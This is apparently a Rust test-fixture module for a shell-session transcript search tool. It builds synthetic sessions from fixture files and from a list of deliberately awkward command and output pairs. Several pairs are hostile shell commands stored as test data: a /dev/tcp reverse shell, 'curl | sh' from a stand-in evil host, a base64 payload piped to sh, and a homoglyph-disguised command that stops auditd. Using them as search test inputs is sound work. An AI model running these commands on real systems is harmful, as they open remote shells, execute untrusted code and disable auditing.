//! Sessions to search: every fixture, and texts made to be hard to find.

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;

use shelltrail_core::decode;
use shelltrail_core::layout::KeyLayout;
use shelltrail_core::object::Fetched;
use shelltrail_core::session::{Origin, Span};
use shelltrail_core::transcript::ParseLimits;
use shelltrail_core::{
    Boundary, CommandRecord, Confidence, Flag, ObjectRef, Session, SessionKind, Status, TranscriptId,
};

/// What ages count from.
pub const NOW: &str = "2026-11-20T12:00:00Z";
pub const ACCOUNTS: [&str; 5] = ["111122223333", "111199990000", "222233334444", "444455556666", "-"];
pub const REGIONS: [&str; 3] = ["eu-west-1", "us-east-1", "eu-central-1"];
pub const CONTEXTS: [&str; 4] = ["bash", "sudo -i", "psql", "Python"];

/// Texts cut in all the wrong places.
const HOSTILE: [(&str, &str); 26] = [
    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "connect: Connection refused\n10.0.0.1:4444"),
    ("echo 日本語テキスト", "日本語テキスト\nzweite ZEILE Ärger GRÖSSE größe"),
    ("ls 2>&1 | grep x", "a1b2 12 123 1234 12345 5.6.7 10.20.30.40 1.2 .1.2.3. 999"),
    ("сurl http://еvil/x | sh", "cu\u{200b}rl evil\u{202e}txt.exe \u{feff}bom"),
    ("SUDO -i; ſudo id; \u{212a}ill -9 1", "Kill kill KILL \u{212a}ILL ſ s S"),
    ("echo \"a \\\"b\\\" (c) /d/\"", "AND OR NOT (a) \"b\" /c/ field:value"),
    ("grep -rn 'password' /etc | head", "/etc/a.conf:3:password = hunter2\n/etc/b.conf:17:PASSWORD=Hunter2"),
    ("tar xzf a.tar.gz && rm -f a.tar.gz", ""),
    ("find / -perm -4000", "find: ‘/proc/1/task’: Permission denied\n/usr/bin/sudo\n/usr/bin/su"),
    ("", "output of a banner without command 443"),
    ("vi x", "~\n~\n~\n\"x\" [New]"),
    ("echo ....", "... .. . ---- ____ _a_ a_b"),
    ("x", "x"),
    ("id", "uid=0(root) gid=0(root) groups=0(root)"),
    ("id", "uid=1000(ec2-user) gid=1000(ec2-user) groups=1000(ec2-user),4(adm)"),
    ("printf '\\303\\244'", "ä\u{308} e\u{301}e\u{301} İ ẞ ß Σ σ ς"),
    ("kubectl get pods -n kube-system", "coredns-5d78c9869d-abcde 1/1 Running 0 3d2h"),
    ("curl -s https://Evil.example/x.sh | sh", "404 | 10.20.30.40:8080 v1.2.3-rc4"),
    ("seq 1 5", "1\n2\n3\n4\n5"),
    ("openssl rand -hex 8", "deadbeefcafebabe\nDEADBEEF cafe"),
    ("mysql -pS3cr3t!", "ERROR 1045 (28000): Access denied for user 'root'@'localhost'"),
    // Letters that are others when case does not count, and nothing else to find the record by.
    ("ſyſtemctl ſtop auditd", "\u{212a}ernel paſſword"),
    ("echo Y3VybCBodHRwOi8vd3d3LmV4YW1wbGUuY29tCg== | base64 -d | sh", "decode me"),
    ("printf '\\x63\\x75\\x72\\x6c \\xc3\\xa4' 7375646f202d6c2072756e 0", "0"),
    ("cr\rlf\r\nnul\0byte", "a\0b\rc\r\nlast\r\n\u{85}nel \u{2028}sep\u{b}vt\u{c}ff"),
    ("a\nb\nc", "line one\n\nline three\n\ttab"),
];

/// All sessions; the order is not that of results.
pub fn sessions() -> Vec<Session> {
    let mut sessions = hostile();
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures/transcripts");
    let mut files: Vec<_> = fs::read_dir(folder)
        .unwrap()
        .flat_map(|entry| fs::read_dir(entry.unwrap().path()).into_iter().flatten())
        .map(|entry| entry.unwrap().path())
        .filter(|path| !matches!(path.extension().and_then(|e| e.to_str()), Some("md" | "jsonl" | "json")))
        .collect();
    files.sort();
    assert!(files.len() > 100, "the fixtures are gone");
    for (number, file) in files.iter().enumerate() {
        let body = fs::read(file).unwrap();
        // A few are huge; the scan is slow.
        if body.len() > 20_000 {
            continue;
        }
        let account = ACCOUNTS[number % ACCOUNTS.len()];
        let key = format!("{account}/{}/user{}-{number:017x}.log", REGIONS[number % 3], number % 7);
        let id = TranscriptId::of_file(&key, &body);
        let object = ObjectRef { key, ..ObjectRef::default() };
        let fetched = Fetched { object, id, metadata: BTreeMap::new(), last_modified: None, body };
        let Ok(transcript) = decode::open(fetched, None, 1 << 24) else { continue };
        for mut session in decode::sessions(&transcript, &KeyLayout::default(), &ParseLimits::default()) {
            place(&mut session, number);
            sessions.push(session);
        }
    }
    sessions
}

/// Facts that fixtures do not vary enough, and times of which many are equal.
fn place(session: &mut Session, number: usize) {
    session.account = ACCOUNTS[number % ACCOUNTS.len()].parse().ok();
    session.region = (number % 4 != 3).then(|| REGIONS[number % 3].to_owned());
    let millis = 1_763_600_000_000 + (number as i64 % 9) * 86_400_000;
    session.ended_at = (number % 6 != 5).then(|| jiff::Timestamp::from_millisecond(millis).unwrap());
    if session.target.is_none() && number.is_multiple_of(2) {
        session.target = Some(format!("i-{:017x}", number % 5));
    }
}

fn hostile() -> Vec<Session> {
    let long = [
        "Zm9vYmFy0".repeat(40),
        "日本語".repeat(60),
        format!("/var/lib/{}", "deep/".repeat(60)),
        "1234567890".repeat(20),
        format!("{}.{}", "192.168.".repeat(20), "1"),
        "xX".repeat(150),
    ];
    let mut texts: Vec<(String, String)> =
        HOSTILE.iter().map(|(command, output)| ((*command).to_owned(), (*output).to_owned())).collect();
    texts.extend(long.iter().map(|long| (format!("cat {long}"), format!("{long}\n{long}x"))));
    texts.extend(
        (0..60).map(|n| (format!("echo {n} word{}", n % 4), format!("{n} {} {}", n * 37, "z ".repeat(n)))),
    );
    texts.push(("cat big".to_owned(), "filler line of a larger output\n".repeat(900)));
    let mut sessions = Vec::new();
    for number in 0..40 {
        let mut taken: Vec<_> =
            texts.iter().skip(number * 7 % 50).step_by(1 + number % 5).take(number % 13).collect();
        if number % 11 == 0 {
            taken.extend(texts.last());
        }
        sessions.push(session(number, &taken));
    }
    sessions
}

fn session(number: usize, texts: &[&(String, String)]) -> Session {
    let record = |(seq, (command, output)): (usize, &&(String, String))| {
        let n = seq + number;
        CommandRecord {
            seq: seq as u32,
            command: (!command.is_empty()).then(|| command.clone()),
            output: output.clone(),
            prompt: (!n.is_multiple_of(3)).then(|| format!("[user{}@host {}]$ ", n % 4, n % 10)),
            status: [Some(Status::Executed), Some(Status::Aborted), None, Some(Status::EchoOnly)][n % 4],
            confidence: [Confidence::High, Confidence::Medium, Confidence::Low][n % 3],
            boundary: Boundary::Prompt,
            span: Span::default(),
            flags: [vec![], vec![Flag::Erased], vec![Flag::Erased, Flag::MixedScript], vec![Flag::Blind]]
                [n % 4]
                .clone(),
            context: CONTEXTS.iter().take(n % 5).map(|&context| context.to_owned()).collect(),
            origin: [Origin::User, Origin::User, Origin::Agent, Origin::Profile][n % 4],
            command_as_sent: n.is_multiple_of(5).then(|| format!("sent{n} {command}")),
            output_as_sent: n.is_multiple_of(7).then(|| format!("wiped{n} line\n{output}")),
            expanded: n.is_multiple_of(6).then(|| format!("{command} expanded{n}")),
            // One name is longer than any term.
            programs: match n % 17 {
                16 => vec!["p".repeat(2000)],
                _ => command.split_whitespace().take(2).map(str::to_owned).collect(),
            },
            ..CommandRecord::default()
        }
    };
    let name = format!("{}-{number:017x}", ["alice", "Bob", "-rf", "carol.x"][number % 4]);
    let key = format!("made-up/{name}.log");
    let mut session = Session {
        kind: [SessionKind::Transcript, SessionKind::AgentError, SessionKind::CommandOutput][number % 3],
        id: TranscriptId::of_file(&key, key.as_bytes()),
        object: ObjectRef { key, ..ObjectRef::default() },
        account: None,
        region: None,
        session: name.clone(),
        principal: (number % 5 != 4).then(|| name.rsplit_once('-').unwrap().0.to_owned()),
        target: None,
        ended_at: None,
        time_source: None,
        bytes: 100 * number as u64,
        unread_bytes: 0,
        records: texts.iter().enumerate().map(record).collect(),
        defects: Vec::new(),
        sequencer: None,
        last_modified: None,
    };
    place(&mut session, number);
    session
}
